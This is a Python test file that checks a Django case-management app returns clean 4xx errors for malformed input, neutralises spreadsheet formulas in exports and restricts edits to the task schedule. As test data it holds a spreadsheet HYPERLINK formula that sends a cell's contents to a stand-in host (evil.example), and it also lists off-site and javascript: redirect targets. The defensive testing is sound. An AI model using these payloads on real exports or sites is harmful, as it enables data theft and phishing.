"""Bad input gets a clear 4xx, never a 500: NUL characters, JSON nested absurdly deep, bodies of the
wrong shape, free text without end, redirects off the site, spreadsheet cells that would run as
formulas, and the beat schedule edited from below national level."""
import io
import json
from urllib.parse import urlencode

import openpyxl
import pytest
from django.conf import settings
from django.contrib import admin
from django.test import RequestFactory
from django.urls import reverse
from django_celery_beat.models import CrontabSchedule, PeriodicTask

from casemgmt.core.models import Role
from families.models import CheckIn, Family, FamilyMember
from reports.excel import list_workbook
from tests.conftest import make_user
from workspace.forms import CheckinForm

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.fixture
def signed_in(client):
    def sign_in(user):
        client.force_login(user)
        return client
    return sign_in


def api_error(response, status=400):
    assert response.status_code == status, response.content[:500]
    body = response.json()
    assert set(body) == {"detail", "errors"} and body["errors"], body
    return body


# ---- NUL characters ------------------------------------------------------------------------------

@pytest.mark.parametrize("url", ["/api/v1/checkins/?foo=a%00b", "/api/v1/families/?q=a%00b",
                                 "/api/v1/reports/statistics/?region=a%00b"])
def test_a_nul_in_an_api_query_parameter_is_a_400_in_the_api_shape(signed_in, people, families, url):
    body = api_error(signed_in(people["manager"]).get(url))
    error = body["errors"][0]
    assert error["code"] == "null_characters_not_allowed" and error["field"] in ("foo", "q", "region")
    assert "NUL" in error["message"] and "不允许" in error["message"]  # translated


def test_a_nul_in_a_page_query_parameter_or_form_field_is_a_plain_400(signed_in, people, families):
    client = signed_in(people["manager"])
    response = client.get("/reports/workbook/?region=a%00b")
    assert response.status_code == 400 and response["Content-Type"].startswith("text/plain")
    assert "region" in response.content.decode()
    response = client.post(reverse("workspace:checkin", args=[families["own"].pk]),
                           {"channel": "phone", "needs": "a\x00b"})
    assert response.status_code == 400 and "needs" in response.content.decode()
    assert not CheckIn.objects.exists()


@pytest.mark.parametrize("encode", ["multipart", "urlencoded"])
def test_a_nul_in_an_api_form_body_is_a_400(signed_in, people, families, encode):
    client, data = signed_in(people["alice"]), {"family": families["own"].pk, "channel": "phone", "needs": "a\x00b"}
    if encode == "urlencoded":
        response = client.post("/api/v1/checkins/", urlencode(data), content_type="application/x-www-form-urlencoded")
    else:
        response = client.post("/api/v1/checkins/", data)
    assert api_error(response)["errors"][0]["field"] == "needs"


def test_an_api_form_post_with_an_idempotency_key_still_reads_its_body(signed_in, people, families):
    response = signed_in(people["alice"]).post("/api/v1/checkins/", {"family": families["own"].pk, "channel": "phone"},
                                               HTTP_IDEMPOTENCY_KEY="form-1")
    assert response.status_code == 201, response.content[:300]


# ---- deep JSON -----------------------------------------------------------------------------------

@pytest.mark.parametrize("body", ["[" * 50_000 + "]" * 50_000, '{"a":' * 50_000 + "1" + "}" * 50_000])
def test_json_nested_fifty_thousand_deep_is_a_400(signed_in, people, families, body):
    client = signed_in(people["alice"])
    for url in ("/api/v1/checkins/", "/api/v1/reports/exports/families/"):
        response = client.post(url, body, content_type="application/json")
        assert api_error(response)["errors"][0]["code"] == "too_deep"


def test_json_of_ordinary_depth_and_brackets_inside_strings_still_parse(signed_in, people, families):
    client = signed_in(people["alice"])
    needs = "[[[[" * 100 + "{{{"  # brackets inside a string are text, not nesting
    response = client.post("/api/v1/checkins/", json.dumps({"family": families["own"].pk, "channel": "phone",
                                                            "needs": needs}), content_type="application/json")
    assert response.status_code == 201, response.content
    assert CheckIn.objects.get().needs == needs


def test_a_nul_escaped_in_a_json_string_is_a_400(signed_in, people, families):
    body = json.dumps({"family": families["own"].pk, "channel": "phone", "follow_up": "a\x00b"})
    assert "\\u0000" in body
    response = signed_in(people["alice"]).post("/api/v1/checkins/", body, content_type="application/json")
    assert api_error(response)["errors"][0]["code"] == "null_characters_not_allowed"


# ---- wrong body shapes ---------------------------------------------------------------------------

@pytest.mark.parametrize("body", ["[1]", '"reason"', "1", "null"])
def test_an_unmasked_export_with_a_body_that_is_not_an_object_is_a_400_naming_it(signed_in, people, families, body):
    response = signed_in(people["manager"]).post("/api/v1/reports/exports/families/", body,
                                                 content_type="application/json")
    message = api_error(response)["errors"][0]["message"]
    assert "字典" in message or "null" in message


# ---- bounded text --------------------------------------------------------------------------------

def test_a_megabyte_check_in_note_is_a_400_naming_the_field(signed_in, people, families):
    client = signed_in(people["alice"])
    base = {"family": families["own"].pk, "channel": "phone"}
    response = client.post("/api/v1/checkins/", json.dumps({**base, "needs": "x" * 1_000_000}),
                           content_type="application/json")
    error = api_error(response)["errors"][0]
    assert error["field"] == "needs" and error["code"] == "max_length" and "10000" in error["message"]
    response = client.post("/api/v1/checkins/", json.dumps({**base, "needs": "字" * settings.FREE_TEXT_MAX_LENGTH}),
                           content_type="application/json")
    assert response.status_code == 201, response.content[:300]


def test_every_api_text_field_of_a_model_is_bounded(signed_in, people):
    from casemgmt.api.serializers import BoundedTextField
    from families.api.serializers import CheckInSerializer, FamilySerializer

    for serializer in (CheckInSerializer(), FamilySerializer()):
        for name in ("difficulties", "needs", "help_given", "follow_up", "notes"):
            field = serializer.get_fields().get(name)
            if field is not None:
                assert isinstance(field, BoundedTextField) and field.max_length == settings.FREE_TEXT_MAX_LENGTH


def test_workspace_and_admin_forms_bound_free_text(people):
    form = CheckinForm({"key": "00000000-0000-0000-0000-000000000001", "channel": "phone",
                        "needs": "x" * (settings.FREE_TEXT_MAX_LENGTH + 1)})
    assert not form.is_valid() and "needs" in form.errors
    request = RequestFactory().get("/admin/")
    request.user = people["root"]
    for model, name in ((Family, "notes"), (CheckIn, "difficulties"), (FamilyMember, "health_conditions")):
        form_class = admin.site._registry[model].get_form(request)
        assert form_class.base_fields[name].max_length == settings.FREE_TEXT_MAX_LENGTH, (model, name)


# ---- redirects -----------------------------------------------------------------------------------

@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "https:/\\evil.example",
                                    "javascript:alert(1)"])
def test_marking_notifications_read_never_redirects_off_site(signed_in, people, target):
    response = signed_in(people["alice"]).post(reverse("workspace:notifications_read"), {"next": target})
    assert response.status_code == 302 and response["Location"] == reverse("workspace:today")


def test_marking_notifications_read_returns_to_the_page_it_was_on(signed_in, people):
    response = signed_in(people["alice"]).post(reverse("workspace:notifications_read"), {"next": "/families/?q=王"})
    assert response.status_code == 302 and response["Location"] == "/families/?q=%E7%8E%8B"


# ---- spreadsheet formulas ------------------------------------------------------------------------

def _cells(content):
    return [cell for row in openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows() for cell in row]


@pytest.mark.parametrize("text", [EVIL_NAME, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+1"])
def test_the_one_workbook_writer_writes_formula_like_text_as_text(text):
    cell = next(c for c in _cells(list_workbook("t", ["h"], [[text], [-5]])) if c.row == 2)
    # XML keeps a carriage return as a line feed: still text, and still not a formula.
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n") and cell.quotePrefix
    number = next(c for c in _cells(list_workbook("t", ["h"], [[text], [-5]])) if c.row == 3)
    assert number.data_type == "n" and number.value == -5


def test_a_member_named_as_a_formula_is_text_in_masked_and_unmasked_exports(signed_in, people, families):
    FamilyMember.objects.filter(family=families["own"], relation="mother").update(name=EVIL_NAME)
    client = signed_in(people["manager"])
    url = "/api/v1/reports/exports/families/"
    unmasked = client.post(url, {"reason": "核对名单"}, content_type="application/json")
    assert unmasked.status_code == 200, unmasked.content[:300]
    cells = [c for c in _cells(unmasked.content) if c.value == EVIL_NAME]
    assert len(cells) == 1 and cells[0].data_type == "s"
    masked = client.get(url)
    assert masked.status_code == 200
    formula_like = [c for c in _cells(masked.content) if isinstance(c.value, str) and c.value.startswith("=")]
    assert formula_like and all(c.data_type == "s" for c in formula_like)
    assert not [c for c in _cells(masked.content) + _cells(unmasked.content) if c.data_type == "f"]


# ---- the beat schedule ---------------------------------------------------------------------------

@pytest.fixture
def beat_task(db):
    crontab = CrontabSchedule.objects.create(minute="0", hour="3")
    return PeriodicTask.objects.create(name="nightly sweep", task="families.tasks.sweep", crontab=crontab)


def _change(client, task, **changes):
    url = reverse("admin:django_celery_beat_periodictask_change", args=[task.pk])
    data = {"name": task.name, "regtask": task.task, "task": task.task, "crontab": task.crontab_id,
            "enabled": "", "args": "[]", "kwargs": "{}", "headers": "{}", "priority": "", "queue": "",
            "exchange": "", "routing_key": "", "expires_seconds": "", "description": "", **changes}
    return client.post(url, data)


def test_a_city_administrator_may_read_but_not_change_disable_or_run_the_beat_schedule(signed_in, people, beat_task):
    client = signed_in(people["city_admin"])
    changelist = reverse("admin:django_celery_beat_periodictask_changelist")
    assert client.get(changelist).status_code == 200
    assert client.get(reverse("admin:django_celery_beat_periodictask_change", args=[beat_task.pk])).status_code == 200
    assert _change(client, beat_task).status_code == 403
    for action in ("disable_tasks", "toggle_tasks", "run_tasks", "delete_selected"):
        client.post(changelist, {"action": action, "_selected_action": [beat_task.pk], "post": "yes"})
    assert PeriodicTask.objects.get(pk=beat_task.pk).enabled
    assert client.get(reverse("admin:django_celery_beat_periodictask_add")).status_code == 403
    assert client.post(reverse("admin:django_celery_beat_crontabschedule_delete", args=[beat_task.crontab_id]),
                       {"post": "yes"}).status_code == 403
    assert CrontabSchedule.objects.filter(pk=beat_task.crontab_id).exists()


@pytest.mark.parametrize("who", ["national_admin", "root"])
def test_a_national_administrator_or_superuser_edits_the_beat_schedule(signed_in, people, beat_task, who):
    user = people["root"] if who == "root" else make_user("national_admin", Role.ADMIN, None)
    client = signed_in(user)
    response = _change(client, beat_task)
    assert response.status_code == 302, response.content[:2000]
    assert not PeriodicTask.objects.get(pk=beat_task.pk).enabled
    changelist = reverse("admin:django_celery_beat_periodictask_changelist")
    client.post(changelist, {"action": "enable_tasks", "_selected_action": [beat_task.pk]})
    assert PeriodicTask.objects.get(pk=beat_task.pk).enabled
